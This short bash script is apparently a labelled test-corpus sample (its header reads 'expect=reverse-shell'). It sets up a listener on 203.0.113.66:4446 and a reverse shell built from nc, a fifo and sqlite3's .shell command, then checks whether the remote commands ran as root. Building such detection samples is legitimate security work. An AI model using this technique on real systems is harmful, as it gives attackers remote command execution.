#!/bin/bash
# SPDX-License-Identifier: Apache-2.0
# corpus: expect=reverse-shell half=report tool=sqlite3,nc,dash far=out ready=out:4446 seconds=22 parts=dns
# What somebody outside types comes by nc and a pipe into sqlite3, whose .shell runs it; a fifo takes back what it says.
# shellcheck disable=SC2094 # no clash
if [ "$1" = out ]; then (sleep 3; for line in ".shell id" ".shell ls /" ".shell uname -a" ".quit"; do echo "$line"; sleep 3; done) | timeout 30 socat -t 2 - TCP-LISTEN:4446,bind=203.0.113.66,reuseaddr >"$LAB/heard"; exit 0; fi
mkfifo "$LAB/f"; cd "$LAB" || exit 1; timeout 20 nc 203.0.113.66 4446 <"$LAB/f" | timeout 20 sqlite3 -batch -interactive :memory: >"$LAB/f" 2>&1; grep -q uid=0 "$LAB/heard"
